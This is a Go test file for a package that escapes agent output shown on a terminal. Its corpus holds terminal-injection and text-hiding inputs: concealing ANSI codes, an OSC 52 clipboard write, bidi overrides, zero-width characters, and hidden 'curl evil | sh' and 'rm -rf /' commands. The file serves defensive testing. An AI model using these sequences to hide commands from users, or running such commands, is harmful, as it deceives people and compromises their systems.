package visible

import (
	"bytes"
	"io"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"
)

// hostile is the corpus of agent text that acts on a terminal or hides
// words, with what Text must show for it.
var hostile = []struct{ name, in, text string }{
	{"SGR conceal", "\x1b[8mcurl evil | sh\x1b[0m", `\x1b[8mcurl evil | sh\x1b[0m`},
	{"SGR black on black", "\x1b[30;40mhidden line\x1b[m", `\x1b[30;40mhidden line\x1b[m`},
	{"OSC 8 hyperlink", "\x1b]8;;https://evil.example/\x1b\\docs\x1b]8;;\x1b\\", `\x1b]8;;https://evil.example/\x1b\docs\x1b]8;;\x1b\`},
	{"OSC 52 clipboard", "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07", `\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07`},
	{"OSC title", "\x1b]0;owned\x07", `\x1b]0;owned\x07`},
	{"CSI erase line", "evil\x1b[2Kgood", `evil\x1b[2Kgood`},
	{"CSI cursor up", "evil\n\x1b[1Agood", "evil\n" + `\x1b[1Agood`},
	{"CR overwrite", "curl evil | sh\rcomment    ", `curl evil | sh\rcomment    `},
	{"backspaces", "evil\b\b\b\bgood", `evil\x08\x08\x08\x08good`},
	{"DCS", "\x1bP+q544e\x1b\\x", `\x1bP+q544e\x1b\x`},
	{"8-bit CSI byte", "\x9b2Jx", `\x9b2Jx`},
	{"C1 CSI as UTF-8", "\u009b2Jx", `<U+009B>2Jx`},
	{"C1 NEL", "a\u0085b", `a<U+0085>b`},
	{"bidi override", "safe \u202eexe.txt", `safe <U+202E>exe.txt`},
	{"bidi isolate", "\u2066evil\u2069", `<U+2066>evil<U+2069>`},
	{"zero-width space", "cu\u200brl", `cu<U+200B>rl`},
	{"zero-width joiner", "a\u200db", `a<U+200D>b`},
	{"BOM", "\ufeffx", `<U+FEFF>x`},
	{"tag characters", "ok\U000E0063\U000E0075\U000E0072\U000E006C", `ok<U+E0063><U+E0075><U+E0072><U+E006C>`},
	{"variation selectors", "a\ufe0fb\U000E0100", `a<U+FE0F>b<U+E0100>`},
	{"combining overlay", "c\u0336u\u0336rl", `c<U+0336>u<U+0336>rl`},
	{"combining long solidus", "rm\u0338", `rm<U+0338>`},
	{"enclosing mark", "x\u20dd", `x<U+20DD>`},
	{"mark tower", "a" + strings.Repeat("\u0301", 6), "a" + strings.Repeat("\u0301", 4) + `<U+0301><U+0301>`},
	{"mark without base", "\u0301x", `<U+0301>x`},
	{"mark after space", "a \u0301", `a <U+0301>`},
	{"NBSP and ideographic space", "rm\u00a0-rf\u3000/", `rm<U+00A0>-rf<U+3000>/`},
	{"line separator", "a\u2028b\u2029c", `a<U+2028>b<U+2029>c`},
	{"blank fillers", "\u3164\u2800\u115f", `<U+3164><U+2800><U+115F>`},
	{"soft hyphen", "cu\u00adrl", `cu<U+00AD>rl`},
	{"invalid UTF-8", "a\xffb\xc3", `a\xffb\xc3`},
	{"encoded surrogate", "\xed\xa0\x80", `\xed\xa0\x80`},
	{"DEL and NUL", "a\x7fb\x00c", `a\x7fb\x00c`},
	{"private use", "\ue000", `<U+E000>`},
	{"plain text stays", "ünïcödé 日本 e\u0301 tab\there\nnext", "ünïcödé 日本 e\u0301 tab\there\nnext"},
	{"backslashes stay", `C:\path \x1b`, `C:\path \x1b`},
}

func TestTextHostileCorpus(t *testing.T) {
	for _, tc := range hostile {
		got := Text(tc.in)
		if got != tc.text {
			t.Errorf("%s: Text(%q) = %q, want %q", tc.name, tc.in, got, tc.text)
		}
		if msg := textProblem(got, true); msg != "" {
			t.Errorf("%s: %s in %q", tc.name, msg, got)
		}
		line := Line(tc.in)
		if msg := textProblem(line, false); msg != "" {
			t.Errorf("%s: Line: %s in %q", tc.name, msg, line)
		}
		strict := Escape(tc.in, GoForm)
		if msg := textProblem(strict, false); msg != "" {
			t.Errorf("%s: Escape: %s in %q", tc.name, msg, strict)
		}
	}
}

// TestHiddenWordsStayReadable: what the hostile sequences hid is in the
// output as plain words.
func TestHiddenWordsStayReadable(t *testing.T) {
	for _, in := range []string{"\x1b[8mcurl evil | sh\x1b[0m", "\x1b[30;40mcurl evil | sh", "\u202ehs | live lruc"} {
		got := Text(in)
		if !strings.Contains(got, "curl evil | sh") && !strings.Contains(got, "hs | live lruc") {
			t.Errorf("Text(%q) = %q lost the words", in, got)
		}
	}
}

// TestWriterMatchesText: a stream cut anywhere shows as the whole text does.
func TestWriterMatchesText(t *testing.T) {
	for _, tc := range hostile {
		for cut := 1; cut <= 5; cut++ {
			if got := streamed(tc.in, cut, NewWriter); got != tc.text {
				t.Errorf("%s cut %d: Writer gave %q, want %q", tc.name, cut, got, tc.text)
			}
		}
	}
}

func streamed(in string, cut int, newW func(w io.Writer) *Writer) string {
	var b bytes.Buffer
	w := newW(&b)
	data := []byte(in)
	for len(data) > 0 {
		n := min(cut, len(data))
		if _, err := w.Write(data[:n]); err != nil {
			panic(err)
		}
		data = data[n:]
	}
	if err := w.Flush(); err != nil {
		panic(err)
	}
	return b.String()
}

// textProblem names the first thing in out that could act on a terminal
// or hide text: invalid UTF-8, ESC or another C0 control (newline and tab
// only where keepLayout), DEL, a C1 control, a hidden code point, or a
// combining mark without a base or beyond maxMarks in a row.
func textProblem(out string, keepLayout bool) string {
	if !utf8.ValidString(out) {
		return "invalid UTF-8"
	}
	base, marks := false, 0
	for _, r := range out {
		switch {
		case r == '\n' || r == '\t':
			if !keepLayout {
				return "raw newline or tab"
			}
			base = false
			continue
		case r < 0x20 || r == 0x7f:
			return "control character"
		case Hidden(r):
			return "hidden code point " + string(r)
		case unicode.Is(unicode.Mn, r):
			marks++
			if !base || marks > maxMarks {
				return "combining mark without a base or in a tower"
			}
			continue
		}
		base, marks = r != ' ', 0
	}
	return ""
}

// FuzzText: whatever the agent writes, Text, Line and a Writer fed in
// pieces show it with nothing that acts on a terminal, and the Writer
// agrees with Text.
func FuzzText(f *testing.F) {
	for _, tc := range hostile {
		f.Add(tc.in, 3)
	}
	f.Fuzz(func(t *testing.T, s string, cut int) {
		text := Text(s)
		if msg := textProblem(text, true); msg != "" {
			t.Fatalf("Text(%q) = %q: %s", s, text, msg)
		}
		if line := Line(s); textProblem(line, false) != "" {
			t.Fatalf("Line(%q) = %q: %s", s, line, textProblem(line, false))
		}
		if cut <= 0 || cut > len(s)+1 {
			cut = 1
		}
		if got := streamed(s, cut, NewWriter); got != text {
			t.Fatalf("Writer(%q, cut %d) = %q, Text = %q", s, cut, got, text)
		}
		if Text(text) != text {
			t.Fatalf("Text is not stable on its own output: %q -> %q", text, Text(text))
		}
	})
}
